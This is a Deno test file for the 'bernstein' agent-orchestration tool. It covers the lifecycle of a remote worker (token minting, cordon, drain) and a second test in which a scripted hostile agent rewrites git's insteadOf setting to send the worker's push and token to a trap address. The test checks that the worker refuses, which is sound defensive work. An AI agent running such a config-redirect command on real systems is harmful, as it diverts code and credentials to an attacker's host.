// `bernstein worker` and `bernstein workers …` on loopback (no namespaces needed): a run whose
// agents all run on a worker, watched with `workers list`, cordoned, uncordoned and drained
// while it runs; the worker exits once drained and idle; the record verifies.
import { deepStrictEqual, ok, strictEqual } from "node:assert/strict";
import { join } from "node:path";
import { REPO_ROOT } from "../_helpers/cli.ts";
import { withTempDir } from "../_helpers/temp.ts";
import { Watched } from "./_netns.ts";
import { bern, prepareRepo, runEnv, step, summaryOf } from "./_run_helpers.ts";

function env(): Record<string, string> {
  const out: Record<string, string> = {
    PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
    HOME: Deno.env.get("HOME") ?? "/tmp",
    NO_COLOR: "1",
  };
  const denoDir = Deno.env.get("DENO_DIR");
  if (denoDir !== undefined) out.DENO_DIR = denoDir;
  return out;
}

function bernsteinArgv(args: string[]): string[] {
  return [
    Deno.execPath(),
    "run",
    "-q",
    "--frozen",
    `--config=${join(REPO_ROOT, "deno.json")}`,
    "-P=bernstein",
    join(REPO_ROOT, "main.ts"),
    ...args,
  ];
}

function freePort(): number {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (listener.addr as Deno.NetAddr).port;
  listener.close();
  return port;
}

Deno.test("workers: a run's agents run on a worker that is listed, cordoned and drained; the worker exits when drained and idle", async () => {
  await withTempDir(async (dir) => {
    const repo = join(dir, "repo");
    await Deno.mkdir(repo);
    const port = freePort();
    // Both agents wait for this file: the run lasts until the test has done its checks.
    const hold = `@agent run sh -c "while [ ! -e ${join(dir, "go")} ]; do sleep 0.05; done"`;
    await prepareRepo(
      repo,
      `name: w\ncli: scripted\nstages:\n  - name: all\n    steps:\n${
        step("Slow one", ["@agent write one.txt one", hold])
      }\n${step("Slow two", ["@agent write two.txt two", hold])}\n`,
      {
        workers: { listen: `127.0.0.1:${port}`, local_agents: 0 },
        tuning: { agent: { heartbeat_interval_s: 0.5 }, workers: { poll_wait_s: 1 } },
      },
    );
    const tokenFile = join(dir, "w1.token");
    const minted = await bern(repo, ["workers", "token", "w1", "--out", tokenFile]);
    strictEqual(minted.code, 0, minted.stderr);
    strictEqual(((await Deno.stat(tokenFile)).mode ?? 0) & 0o777, 0o600);
    const refused = await bern(repo, ["workers", "token", "w1", "--out", tokenFile]);
    strictEqual(refused.code, 2, "an existing token file is never overwritten without --force");
    ok(refused.stderr.includes("workers.token_file_exists"), refused.stderr);
    const before = await Deno.readTextFile(tokenFile);
    strictEqual(
      (await bern(repo, ["workers", "token", "w1", "--out", tokenFile, "--force"])).code,
      0,
    );
    ok(before !== await Deno.readTextFile(tokenFile), "--force replaces the token");
    const worker = new Watched(
      bernsteinArgv([
        "worker",
        "--server",
        `http://127.0.0.1:${port}`,
        "--token-file",
        tokenFile,
        "--name",
        "w1",
        "--capacity",
        "2",
        "--dir",
        join(dir, "w1-state"),
        "--json",
      ]),
      { cwd: dir, env: env() },
    );
    const run = new Watched(bernsteinArgv(["run", "plan.yaml", "--json"]), {
      cwd: repo,
      env: { ...env(), ...runEnv(repo) },
    });
    try {
      await run.waitFor((l) => l.includes('"task.spawned"') && l.includes('"worker":"w1"'));
      const listed = await bern(repo, ["workers", "list", "--json"]);
      strictEqual(listed.code, 0, listed.stderr);
      const [w] = JSON.parse(listed.stdout).workers;
      strictEqual(w.name, "w1");
      strictEqual(w.state, "ready");
      strictEqual(w.capacity, 2);
      deepStrictEqual(w.adapters.map((a: { name: string }) => a.name).includes("scripted"), true);
      const cordoned = await bern(repo, ["workers", "cordon", "w1", "--json"]);
      strictEqual(cordoned.code, 0, cordoned.stderr);
      strictEqual(JSON.parse(cordoned.stdout).worker.state, "cordoned");
      strictEqual(
        JSON.parse((await bern(repo, ["workers", "uncordon", "w1", "--json"])).stdout).worker.state,
        "ready",
      );
      const unknown = await bern(repo, ["workers", "drain", "nobody"]);
      strictEqual(unknown.code, 1);
      ok(unknown.stderr.includes("workers.not_found"), unknown.stderr);
      await run.waitFor((l) => l.includes('"task.spawned"') && l.includes("slow-two"));
      const drained = await bern(repo, ["workers", "drain", "w1", "--json"]);
      strictEqual(drained.code, 0, drained.stderr);
      strictEqual(JSON.parse(drained.stdout).worker.state, "draining");
      await Deno.writeTextFile(join(dir, "go"), "");
      const status = await worker.done;
      strictEqual(status.code, 0, worker.errLines.join("\n"));
      strictEqual(JSON.parse(worker.lines.at(-1) ?? "{}").end, "drained");
      await run.done;
      const summary = summaryOf({
        code: (await run.child.status).code,
        stdout: run.lines.join("\n") + "\n",
        stderr: "",
      });
      strictEqual(summary.health, "HEALTHY", run.errLines.join("\n"));
      strictEqual((await bern(repo, ["lineage", "gate"])).code, 0);
      strictEqual((await bern(repo, ["audit", "verify"])).code, 0);
      // Branches the project fetched are gone from the workers' remote (pushes stay small).
      const left = await new Deno.Command("git", {
        args: ["--git-dir", join(repo, ".sdd", "runtime", "remote.git"), "for-each-ref"],
        stdout: "piped",
      }).output();
      strictEqual(left.code, 0);
      deepStrictEqual(
        new TextDecoder().decode(left.stdout).split("\n").filter((l) => l.includes("agent/")),
        [],
      );
    } finally {
      for (const p of [worker, run]) {
        try {
          p.child.kill("SIGKILL");
        } catch {
          // already gone
        }
      }
      await Promise.allSettled([worker.done, run.done]);
    }
  });
});

Deno.test("workers: a hostile agent rewrites the worker's git config to send the push elsewhere; the worker refuses and the task fails", async () => {
  await withTempDir(async (dir) => {
    const repo = join(dir, "repo");
    await Deno.mkdir(repo);
    const port = freePort();
    // Where the agent wants the worker's push (and its token) to go: nothing may arrive.
    const trap = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const trapPort = (trap.addr as Deno.NetAddr).port;
    let knocked = 0;
    const trapped = (async () => {
      for await (const conn of trap) {
        knocked++;
        conn.close();
      }
    })().catch(() => {});
    await prepareRepo(
      repo,
      `name: w\ncli: scripted\nstages:\n  - name: all\n    steps:\n${
        step("Redirect", [
          `@agent run git config url.http://127.0.0.1:${trapPort}/.insteadOf http://127.0.0.1:${port}/`,
          "@agent write stolen.txt x",
        ])
      }\n`,
      {
        workers: { listen: `127.0.0.1:${port}`, local_agents: 0 },
        tuning: { agent: { heartbeat_interval_s: 0.5 }, workers: { poll_wait_s: 1 } },
      },
    );
    const tokenFile = join(dir, "w1.token");
    strictEqual((await bern(repo, ["workers", "token", "w1", "--out", tokenFile])).code, 0);
    const worker = new Watched(
      bernsteinArgv([
        "worker",
        "--server",
        `http://127.0.0.1:${port}`,
        "--token-file",
        tokenFile,
        "--name",
        "w1",
        "--dir",
        join(dir, "w1-state"),
      ]),
      { cwd: dir, env: env() },
    );
    try {
      const run = await bern(repo, ["run", "plan.yaml", "--json"]);
      const summary = summaryOf(run);
      strictEqual(summary.health, "UNHEALTHY");
      strictEqual((summary.merges as unknown[]).length, 0);
      const failed = run.stdout.split("\n").filter((l) => l.includes('"task.failed"')).join("\n");
      ok(failed.includes("could not push") && failed.includes("insteadof"), failed);
      strictEqual(knocked, 0, "nothing reached the address the agent planted");
      ok(
        worker.errLines.join("\n").includes("workers.config_tampered") ||
          worker.errLines.join("\n").includes("transport settings nobody here wrote"),
      );
    } finally {
      worker.child.kill("SIGKILL");
      await worker.done;
      trap.close();
      await trapped;
    }
  });
});
